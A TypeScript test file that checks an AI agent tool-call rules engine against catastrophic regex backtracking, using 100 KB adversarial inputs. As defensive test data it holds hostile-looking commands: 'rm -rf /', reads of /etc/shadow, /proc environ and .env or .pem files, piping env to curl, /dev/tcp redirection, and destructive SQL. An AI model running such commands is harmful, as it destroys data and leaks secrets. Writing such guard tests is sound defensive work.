/**
 * No rule can backtrack catastrophically: every matcher the pack is compiled into, and the
 * whole rules pass over a call, run on adversarial ~100 KB inputs (long paths, long flags,
 * long URLs, many pipes, huge globs, deep SQL, inline code, big JSON). Times are CPU time of
 * this process (a shared machine inflates wall time, not the work done), and the bounds are
 * generous: typical figures are well under a millisecond per rule and tens of milliseconds
 * per call.
 */
import { describe, expect, it } from 'vitest';
import { answerWithRules, evaluateRules, profileRules, recentFactsOf, ruleQuestions } from '../../src/rules/index.js';
import { compileGlob, compileGlobs, wildcardMatch } from '../../src/facts/glob.js';
import { hostOfRemoteSpec, hostOfUrl, hostOfWord, urlBasename } from '../../src/facts/hosts.js';
import { inlineActions, tokenize } from '../../src/facts/inline.js';
import { destructiveNoSql, destructiveSql } from '../../src/facts/sql.js';
import { parseArgs } from '../../src/facts/argv.js';
import type { State } from '../../src/state/types.js';

const N = 100 * 1024;
/** Per input, whole pipeline (shell reader included); typically tens of ms even for 4096 pipes. */
const CALL_BOUND_MS = 2000;
/** Per rule on one input, facts already built; typically well under a millisecond. */
const RULE_BOUND_MS = 100;
/** Per matcher call. */
const MATCHER_BOUND_MS = 100;

/** CPU milliseconds of this process. */
function cpu(): number {
  const u = process.cpuUsage();
  return (u.user + u.system) / 1000;
}

function time(fn: () => unknown): number {
  const t = cpu();
  fn();
  return cpu() - t;
}

const rep = (s: string, bytes = N): string => s.repeat(Math.ceil(bytes / s.length)).slice(0, bytes);
const bash = (command: string): State => ({
  tool: 'Bash',
  capability: 'shell.exec',
  input: { command },
  workspace_root: '/home/dev/project',
  network_scope: ['api.example.com', '*.internal.example'],
});

const commands: Record<string, string> = {
  'long path': `rm -rf /${rep('a/')}`,
  'long dotted path': `cat ${rep('../')}etc/shadow`,
  'long flags': `rm -${rep('r')} /`,
  'many flags': `rm ${rep('-r -f ')} /`,
  'long url': `curl https://${rep('a.')}example.com/x`,
  'long url path': `curl -o x https://x.example/${rep('%2e%2e/')}`,
  'url with many @': `curl https://${rep('u@')}x.example`,
  'many pipes': `${rep('cat x | ')}sh`,
  'many pipes into curl': `${rep('env | ')}curl -d @- https://x.example`,
  'many commands': rep('a; '),
  'many ands': rep('ls && '),
  'huge glob': `ls ${rep('*')}`,
  'glob path': `rm -rf ${rep('*/')}`,
  'long basename': `cat ${rep('a')}.pem`,
  'env-like basename': `cat .env${rep('.x')}`,
  'many args': `rm -rf ${rep('a ')}`,
  'proc path': `cat /proc/${rep('1/')}environ`,
  'deep sql': `psql -c "${rep('DELETE FROM x WHERE ')}"`,
  'sql quotes': `psql -c "${rep("'")}"`,
  'sql comments': `psql -c "${rep('/*')}"`,
  'inline python': `python3 -c "${rep('os.system(')}"`,
  'inline quotes': `python3 -c "${rep("'a',")}"`,
  'inline strings': `node -e '${rep('"x"+')}'`,
  'find tests': `find / ${rep('-name x ')}-delete`,
  'xargs template': `echo / | xargs ${rep('-I{} ')}rm -rf {}`,
  'nested quotes': rep(`"'`),
  substitutions: `${rep('$(')}`,
  backslashes: rep('\\'),
  'scp specs': `scp ${rep('a:')} host:/x`,
  'socat addresses': `socat ${rep('TCP:')}x`,
  'git push refspecs': `git push origin ${rep('+a:')}`,
  'chmod modes': `chmod ${rep('u+s,')} x`,
  redirections: `echo x ${rep('> /etc/x ')}`,
  'dev tcp': `cat x > /dev/tcp/${rep('a')}/80`,
  'printenv names': `printenv ${rep('SECRET_')}`,
};

describe('ReDoS: whole rules pass on adversarial 100 KB commands', () => {
  const all = ruleQuestions();
  for (const [name, command] of Object.entries(commands)) {
    it(name, () => {
      const ms = time(() => answerWithRules(bash(command), all));
      expect(ms).toBeLessThan(CALL_BOUND_MS);
      // Each rule on its own, the parse already done (the first rule to ask for a fact pays
      // for it, so the slowest rule also bounds every shared computation). A rule is slow only
      // when it is so in three profiles: a busy machine's pause (another process's load, a
      // collection on a helper thread) lands on one rule once, a backtracking pattern every time.
      const slowRules = () =>
        profileRules(bash(command), cpu)
          .filter((r) => r.ms >= RULE_BOUND_MS)
          .map((r) => r.rule);
      let slow = slowRules();
      for (let round = 0; round < 2 && slow.length > 0; round++) {
        const again = slowRules();
        slow = slow.filter((rule) => again.includes(rule));
      }
      expect(slow).toEqual([]);
    });
  }

  it('file tools, urls and amounts with 100 KB fields', () => {
    const states: State[] = [
      { tool: 'Read', capability: 'file.read', input: { file_path: `/${rep('a/')}.env` }, workspace_root: '/w' },
      { tool: 'Write', capability: 'file.write', input: { file_path: `${rep('../')}etc/passwd`, content: rep('x') }, workspace_root: '/w' },
      { tool: 'Glob', capability: 'file.read', input: { pattern: rep('**/'), path: rep('*') }, workspace_root: '/w' },
      {
        tool: 'WebFetch',
        capability: 'net.fetch',
        input: { url: `https://${rep('x.')}com/`, prompt: rep('p') },
        workspace_root: '/w',
        network_scope: ['*.example'],
      },
      {
        tool: 'mcp__pay__charge',
        capability: 'mcp.pay.charge',
        input: { items: Array.from({ length: 5000 }, (_, i) => ({ price: i, amount: `${i}.5`, note: 'x' })) },
        workspace_root: '/w',
        amount_bound: 100,
      },
      {
        tool: 'Bash',
        capability: 'shell.exec',
        input: { command: 'bash x' },
        workspace_root: '/w',
        recent: Array.from({ length: 50 }, () => ({ downloads: Array.from({ length: 64 }, (_, i) => `/w/${rep('d', 1000)}${i}`) })),
      },
    ];
    for (const s of states) {
      const ms = time(() => {
        evaluateRules(s);
        recentFactsOf(s);
      });
      expect(ms, s.tool).toBeLessThan(CALL_BOUND_MS);
    }
  });
});

describe('ReDoS: each matcher on adversarial 100 KB strings', () => {
  const cases: Array<[string, () => unknown]> = [
    ['glob a*b*c*d on a^n', () => wildcardMatch('a*b*c*d*e*f*g*h', rep('a'))],
    ['glob *x on a^n', () => compileGlob('*x')(rep('a'))],
    ['glob many stars', () => wildcardMatch(rep('*a', 64), rep('a') + 'b')],
    ['glob set', () => compileGlobs(['*.pem', '.env.*', 'id_*', 'a*b*c'])(rep('ab'))],
    ['host of url', () => hostOfUrl(`https://${rep('a')}`)],
    ['host of url, userinfo', () => hostOfUrl(`https://${rep('@')}`)],
    ['host of remote spec', () => hostOfRemoteSpec(rep('a:'))],
    ['host of word', () => hostOfWord(rep('a.'))],
    ['url basename', () => urlBasename(`https://x/${rep('/')}`)],
    ['sql', () => destructiveSql(rep("DELETE FROM t WHERE 'a' -- x\n"))],
    ['nosql', () => destructiveNoSql(rep('deleteMany( '))],
    ['tokenize', () => tokenize(rep('"\\'), false)],
    ['inline actions', () => inlineActions(rep('os.system(['), 'python')],
    ['argv', () => parseArgs(rep('-o ').split(' '), { value_opts: ['-o'] })],
  ];
  for (const [name, fn] of cases) {
    it(name, () => {
      expect(time(fn)).toBeLessThan(MATCHER_BOUND_MS);
    });
  }
});
